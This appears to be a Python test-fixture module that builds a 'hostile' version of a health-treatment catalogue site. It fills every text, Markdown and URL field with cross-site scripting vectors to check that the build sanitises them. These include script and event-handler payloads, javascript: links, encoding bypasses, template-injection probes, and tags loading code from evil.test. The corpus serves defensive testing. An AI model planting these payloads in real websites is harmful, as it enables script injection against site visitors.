"""A corpus of cross-site scripting vectors, and a site with them in every field.

Each vector, once its `XN` is replaced by its number, either calls `__xss(n)` (the
browser tests define it and record every call), opens a dialog, or asks for
`http://evil.test/…` (a request to another origin). So a vector that works is
seen, whichever way it works. Template-looking vectors (`{{ }}`, `{% %}`) would
print `jinjaran` or `looploop` if Jinja ever evaluated content.

`make_hostile_site` puts every text vector into every free-text field of the
minimal site (site.yaml, the catalogue, each page's front matter), every text,
Markdown and URL vector into each Markdown body and the disclaimer, and the URL
vectors into every address field that accepts them; optional fields the minimal
site leaves out are filled in first, so that none is missed. Vectors the build
refuses in a place (a `javascript:` source `url`, an image from another site)
are kept apart (`REFUSED_IN_MARKDOWN`, `REFUSED_URLS`, `REFUSED_FILES`):
tests/test_xss_corpus.py checks the finding each gives.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from hostile_content import change_every_text, edit_yaml

FIXTURES = Path(__file__).resolve().parent / "fixtures"
TOKEN = "XN"  # replaced by the vector's number
NOT_EVALUATED = ("jinjaran", "looploop", "<class ")  # what evaluated templates would print

# HTML, text and template payloads: for every text field, and raw HTML in Markdown.
TEXT_VECTORS = [
    "<script>__xss(XN)</script>",
    "<SCRIPT SRC=http://evil.test/XN.js></SCRIPT>",
    "<ScRiPt>__xss(XN)</sCrIpT>",
    "<scr<script>ipt>__xss(XN)</scr</script>ipt>",
    "<script\x0c>__xss(XN)</script>",
    '<img src="/images/dot.svg" alt="x" onerror="__xss(XN)" onload="__xss(XN)">',
    "<img src=x onerror=__xss(XN)>",
    '<img src="x" onerror="&#95;&#95;xss(XN)">',
    "<svg onload=__xss(XN)>",
    "<svg><script>__xss(XN)</script></svg>",
    '"><svg onload=__xss(XN)>',
    "'><img src=x onerror=__xss(XN)>",
    '" onmouseover="__xss(XN)" x="',
    "' autofocus onfocus='__xss(XN)' x='",
    '<iframe src="javascript:__xss(XN)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss(XN)&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,&lt;script&gt;parent.__xss(XN)&lt;/script&gt;"></object>',
    '<embed src="http://evil.test/XN.swf">',
    '<base href="http://evil.test/XN/">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(XN)">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/XN">',
    '<link rel="stylesheet" href="http://evil.test/XN.css">',
    "<style>@import 'http://evil.test/XN.css';</style>",
    '<div style="background:url(http://evil.test/XN.png)">css</div>',
    '<div style="width:expression(__xss(XN))">css</div>',
    '<a href="javascript:__xss(XN)">click</a>',
    '<a href="JaVaScRiPt:__xss(XN)">click</a>',
    '<a href="&#106;avascript:__xss(XN)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;__xss(XN)">click</a>',
    '<a href="java&#x09;script:__xss(XN)">click</a>',
    '<a href=" &#14; javascript:__xss(XN)">click</a>',
    '<a href="vbscript:__xss(XN)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMCk8L3NjcmlwdD4=">click</a>',
    '<a href="#" onclick="__xss(XN)" onmouseover="__xss(XN)">hover</a>',
    "<body onload=__xss(XN)>",
    "<details open ontoggle=__xss(XN)><summary>x</summary></details>",
    "<input autofocus onfocus=__xss(XN)>",
    '<form action="javascript:__xss(XN)"><button>go</button></form>',
    "<button formaction=javascript:__xss(XN)>go</button>",
    "<video><source onerror=__xss(XN)></video>",
    "<audio src=x onerror=__xss(XN)></audio>",
    "<marquee onstart=__xss(XN)>m</marquee>",
    "<xss id=xXN tabindex=1 autofocus onfocus=__xss(XN)></xss>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(XN)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=__xss(XN)>"></p></noscript>',
    "<!--<img src=x onerror=__xss(XN)>-->",
    "--><script>__xss(XN)</script>",
    "<![CDATA[<script>__xss(XN)</script>]]>",
    "</textarea><script>__xss(XN)</script>",
    "</title><script>__xss(XN)</script>",
    "</script><script>__xss(XN)</script>",
    '<svg><a xlink:href="javascript:__xss(XN)"><text x="9" y="9">x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="__xss(XN)"/></svg>',
    "<svg><animate onbegin=__xss(XN) attributeName=x dur=1s></svg>",
    '<svg><foreignObject><iframe src="javascript:__xss(XN)"></iframe></foreignObject></svg>',
    '<img src="http://evil.test/XN.png" alt="x">',
    '<img srcset="http://evil.test/XN.png 1x" alt="x">',
    '<picture><source srcset="http://evil.test/XN.png"><img src="/images/dot.svg" alt="x"></picture>',
    '<table background="http://evil.test/XN.png"><tr><td>t</td></tr></table>',
    "<template><script>__xss(XN)</script></template>",
    "<isindex action=javascript:__xss(XN) type=image>",
    "\uff1cscript\uff1e__xss(XN)\uff1c/script\uff1e",
    "<scr\u200bipt>__xss(XN)</scr\u200bipt>",
    '\u202e<a href="javascript:__xss(XN)">\u202dclick</a>',
    "<\u017fcript>__xss(XN)</\u017fcript>",
    '<a href="jav&#0;ascript:__xss(XN)">click</a>',
    "<img src=x onerror=alert(XN)>",
    "<svg onload=confirm(XN)>",
    "<img src=x onerror=\"console.log('xss-ran-XN')\">",
    "{{ 'jinja' ~ 'ran' }} XN",
    "{% for x in 'ab' %}loop{% endfor %} XN",
    "{{ config.__class__ }} {{ self }} {% include 'base.html' %} XN",
    "${7*7} #{7*7} <%= 7*7 %> XN",
]

# Markdown constructs: for Markdown bodies and the disclaimer only.
MARKDOWN_VECTORS = [
    "[click](javascript:__xss(XN))",
    "[click](JAVASCRIPT:__xss(XN))",
    "[click](<javascript:__xss(XN)>)",
    "[click](data:text/html,<script>__xss(XN)</script>)",
    "[click](vbscript:__xss(XN))",
    "[click](&#106;avascript:__xss(XN))",
    '[click](/how-we-rate-evidence/ "\\" onmouseover=\\"__xss(XN)")',
    "[click][refXN]\n\n[refXN]: javascript:__xss(XN)",
    "<javascript:__xss(XN)>",
    'A paragraph with attributes{: onclick="__xss(XN)" }',
    '[click](https://evil.test/XN){: onmouseover="__xss(XN)" }',
    "*[HTML]: <script>__xss(XN)</script>\n\nHTML abbreviation XN",
    'Footnote XN[^fXN].\n\n[^fXN]: <img src="/images/dot.svg" alt="x" onerror=__xss(XN)>',
    "`<script>__xss(XN)</script>` and\n\n    <script>__xss(XN)</script>",
    "<https://evil.test/XN>",
    "[link to another site](https://evil.test/XN)",
    "![an image](javascript:__xss(XN))",
]

# Text vectors the build refuses as raw HTML in Markdown, and Markdown it refuses, with
# the field of the error each gives: an image with no alt text or from another site, a
# link that is neither a web address nor a page of the site.
REFUSED_IN_MARKDOWN = {
    "<img src=x onerror=__xss(XN)>": "image",
    '<img src="x" onerror="&#95;&#95;xss(XN)">': "image",
    "'><img src=x onerror=__xss(XN)>": "image",
    '<noscript><p title="</noscript><img src=x onerror=__xss(XN)>"></p></noscript>': "image",
    '<img src="http://evil.test/XN.png" alt="x">': "image",
    '<a href="jav&#0;ascript:__xss(XN)">click</a>': "link",
    "<img src=x onerror=alert(XN)>": "image",
    "<img src=x onerror=\"console.log('xss-ran-XN')\">": "image",
    "![x](http://evil.test/XN.png)": "image",
    "![x](//evil.test/XN.png)": "image",
    "[click](jav&#0;ascript:__xss(XN))": "link",
}

# Addresses: accepted (escaped) in a source's url, a side-effect report's url and an
# external navigation item; those in REFUSED_URLS give a finding there.
URL_VECTORS = [
    'https://evil.test/XN"><svg onload=__xss(XN)>',
    "https://evil.test/XN' onmouseover='__xss(XN)",
    "https://evil.test/XN?<script>__xss(XN)</script>",
    'https://evil.test/XN#" autofocus onfocus="__xss(XN)',
]
REFUSED_URLS = [
    "javascript:__xss(XN)",
    "JAVASCRIPT://evil.test/%0a__xss(XN)",
    "data:text/html,<script>__xss(XN)</script>",
    "vbscript:__xss(XN)",
    "//evil.test/XN",
]


@dataclass(frozen=True)
class Vector:
    number: int
    text: str


def numbered(vectors: list[str], start: int) -> list[Vector]:
    return [Vector(start + i, v.replace(TOKEN, str(start + i))) for i, v in enumerate(vectors)]


TEXTS = numbered(TEXT_VECTORS, 1)
MARKDOWNS = numbered(MARKDOWN_VECTORS, 1 + len(TEXTS))
URLS = numbered(URL_VECTORS, 1 + len(TEXTS) + len(MARKDOWNS))
REFUSED_MARKDOWN = numbered(
    [v for v in REFUSED_IN_MARKDOWN if v not in TEXT_VECTORS], 1 + len(TEXTS + MARKDOWNS + URLS)
)
REFUSED_ADDRESSES = numbered(REFUSED_URLS, 1 + len(TEXTS + MARKDOWNS + URLS + REFUSED_MARKDOWN))
COUNT = len(TEXTS + MARKDOWNS + URLS + REFUSED_MARKDOWN + REFUSED_ADDRESSES)


def refused_field(vector: Vector) -> str | None:
    """The field of the error the build gives for `vector` in a Markdown body, if any."""
    template = next(
        (t for t in REFUSED_IN_MARKDOWN if t.replace(TOKEN, str(vector.number)) == vector.text),
        None,
    )
    return REFUSED_IN_MARKDOWN.get(template) if template else None


def markdown_vectors() -> list[Vector]:
    """What a Markdown body may hold of the corpus: text and Markdown vectors the build
    accepts (sanitising them, with warnings), and links to each accepted address."""
    links = [Vector(v.number, f"[a link]({v.text.replace(' ', '%20')})") for v in URLS]
    # Markdown first: raw HTML left open (`<svg onload=…>`) makes the rest raw HTML too.
    return MARKDOWNS + links + [v for v in TEXTS if refused_field(v) is None]


def hostile_text(path: str, text: str) -> str:
    """A free text with every text vector after it (each field shows them all); the
    disclaimer, which is Markdown, gets what a Markdown body may hold."""
    if path.endswith("disclaimer") and path.count(".") in (0, 2):  # also translations.fr.…
        return hostile_body(text).replace("[^f", "[^disclaimer-f")
    return text + " " + " ".join(vector.text for vector in TEXTS)


def hostile_body(body: str) -> str:
    """A Markdown body with every vector it may hold after it, one paragraph each."""
    return body + "\n\n" + "\n\n".join(v.text for v in markdown_vectors()) + "\n"


def make_hostile_site(folder: Path) -> Path:
    """The minimal content with the whole accepted corpus in every field; returns it."""
    content = folder / "content"
    shutil.copytree(FIXTURES / "minimal", content)
    fill_optional_fields(content)
    change_every_text(content, hostile_text, hostile_body)
    # Served from the root in the browser tests, so `_headers` paths must start there.
    edit_yaml(content / "site.yaml", lambda site: {**site, "base_url": "https://example.test/"})
    add_hostile_addresses(content)
    add_published_files(content / "images")
    return content


def fill_optional_fields(content: Path) -> None:
    """Every optional text field of the minimal site given a value, to be made hostile."""
    clinical_review = {
        "clinical_review": {"by": "A", "role": "B", "date": date(2026, 1, 1)},
        "owner": "O",
        "approved_by": "A",
        "approved_on": date(2026, 1, 1),
    }

    def site(data: dict) -> dict:
        contact = {"email": "a@example.test", "phone": "0", "address": "A", "hours": "B"}
        for level in data["evidence_levels"]:
            level["summary"] = "S"
        levels = {
            level["id"]: {"label": "L", "explanation": "E", "summary": "S"}
            for level in data["evidence_levels"]
        }
        french = {"title": "T", "description": "D", "publisher": "P", "disclaimer": "D",
                  "disclaimer_short": "S", "evidence_levels": levels,
                  "navigation": data["navigation"], "disclosure": data["disclosure"],
                  "contact": contact, "required_sections": data.get("required_sections", [])}  # fmt: skip
        languages = [{"code": "en", "name": "English"}, {"code": "fr", "name": "Français"}]
        return {**data, "contact": contact, "feedback_email": "a@example.test",
                "languages": languages, "translations": {"fr": french}}  # fmt: skip

    def about(meta: dict) -> dict:
        sources = [{"title": "T", "publisher": "P", "citation": "C", "url": "https://e.test/"}]
        return {**meta, "reviewed_by": "R", "sources": sources, **clinical_review}

    def condition(meta: dict) -> dict:
        return {**meta, **clinical_review, "evidence_for": "E"}

    def catalogue(data: dict) -> dict:
        package = data["packages"][0]
        package["price_excludes"] = ["Travel"]
        package["follow_up"] = "A call"
        package["trial_registration"] = {"registry": "R", "identifier": "I"}
        package["sources"][0].update(publisher="P", citation="C")
        package["sold_by_publisher"] = True
        package["schedule"] = [{"day": 1, "what": "Arrival"}]
        for name in ("eyes_treated", "treated_by", "country", "clinic", "regulator",
                     "product_specification", "product_testing", "provider", "licence",
                     "duration", "benefits"):  # fmt: skip
            package[name] = name.replace("_", " ").capitalize()
        package["alternatives"] = ["Waiting"]
        package.update(owner="O", approved_by="A", approved_on=date(2026, 1, 1))
        french = {name: package[name] for name in ("name", "summary", "adjuvant_therapies",
                  "duration", "includes", "provider", "treated_by", "eyes_treated", "benefits",
                  "known_risks", "alternatives", "price_excludes", "follow_up")
                  if name in package}  # fmt: skip
        package["translations"] = {"fr": french}
        data["packages"] += [other_kind(package, kind, fields) for kind, fields in KINDS.items()]
        return data

    edit_yaml(content / "site.yaml", site)
    edit_yaml(content / "pages" / "about.md", about)
    edit_yaml(content / "conditions" / "alpha.md", condition)
    edit_yaml(content / "packages.yaml", catalogue)


# Packages of the other kinds, each with its own list of what is given, every field filled.
KINDS = {
    "medicine course": {"medicines": [{"name": "N", "form": "F", "dose": "D"}]},
    "surgery or procedure": {
        "procedures": [{"name": "N", "anaesthetic": "A", "how_long": "H", "stay": "S"}]
    },
    "rehabilitation": {"sessions": [{"what": "W", "how_many": 2, "length": "L", "where": "H"}]},
    "diagnostic": {"tests": [{"name": "N", "why": "W", "preparation": "P", "results": "R"}]},
}


def other_kind(package: dict, kind: str, fields: dict) -> dict:
    """A copy of the cell-therapy package as another kind of package."""
    cell_only = ("cells", "product_specification", "product_testing")
    copy = {name: value for name, value in package.items() if name not in cell_only}
    return {**copy, "id": f"{package['id']}-{kind.split()[0]}", "kind": kind, **fields}


def add_hostile_addresses(content: Path) -> None:
    """Every accepted URL vector as a menu item, a source and a side-effect report."""

    def menu(site: dict) -> dict:
        items = [{"title": f"Menu {v.number}", "url": v.text} for v in URLS]
        return {**site, "navigation": site["navigation"] + items}

    def sources(meta: dict) -> dict:
        added = [{"title": f"Source {v.number}", "url": v.text} for v in URLS]
        return {**meta, "sources": meta["sources"] + added}

    def reports(catalogue: dict) -> dict:
        package = catalogue["packages"][0]
        added = [
            {"jurisdiction": f"Report {v.number}", "how": "Online", "url": v.text} for v in URLS
        ]
        package["report_side_effects"] = package["report_side_effects"] + added
        return catalogue

    edit_yaml(content / "site.yaml", menu)
    edit_yaml(content / "conditions" / "alpha.md", sources)
    edit_yaml(content / "packages.yaml", reports)


# A drawing with everything an SVG may hold that reaches outside itself in appearance
# only: a link to another site, styles, an embedded raster image.
PUBLISHED_DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20">
<style>.a { fill: url(#g) } rect { stroke: #000 }</style>
<defs><linearGradient id="g"><stop offset="0" stop-color="#036"/></linearGradient></defs>
<a href="https://evil.test/drawing-link"><rect class="a" width="40" height="20"/></a>
<image width="1" height="1" href="data:image/gif;base64,R0lGODlhAQABAAAAACw="/>
<text x="2" y="12" style="font-family: sans-serif">&lt;script&gt;__xss(0)&lt;/script&gt;</text>
</svg>
"""
PUBLISHED_PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)
PUBLISHED_PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


def add_published_files(images: Path) -> None:
    """The kinds content/images/ publishes, for the browser to open at their own address."""
    (images / "drawing.svg").write_text(PUBLISHED_DRAWING, "utf-8")
    (images / "pixel.png").write_bytes(PUBLISHED_PNG)
    (images / "leaflet.pdf").write_bytes(PUBLISHED_PDF)


# Files the build refuses (tests/test_assets.py checks each finding). The browser
# tests serve them anyway, as if one had slipped through, to show that the policy
# `_headers` gives content/images/ would still keep them from running or loading.
REFUSED_FILES = {
    "refused-script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(201)">'
    b"<script>__xss(202)</script></svg>",
    "refused-handler.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/>'
    b'<image href="http://evil.test/203.png" onerror="__xss(203)"/></svg>',
    "refused-link.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:__xss(204)">'
    b'<rect width="99" height="99"/></a><animate onbegin="__xss(205)" attributeName="x" dur="1s"/>'
    b"</svg>",
    "refused-styles.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url('
    b'http://evil.test/206.css);</style><rect style="fill:url(http://evil.test/207.svg#g)" '
    b'width="9" height="9"/></svg>',
    "refused-foreign.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="99" '
    b'height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.test/208">'
    b'</iframe><img src="x" onerror="__xss(209)"/></body></foreignObject></svg>',
    "refused-page.html": b"<!doctype html><title>x</title><script>__xss(210)</script>"
    b'<img src="http://evil.test/211.png" onerror="__xss(212)">',
}
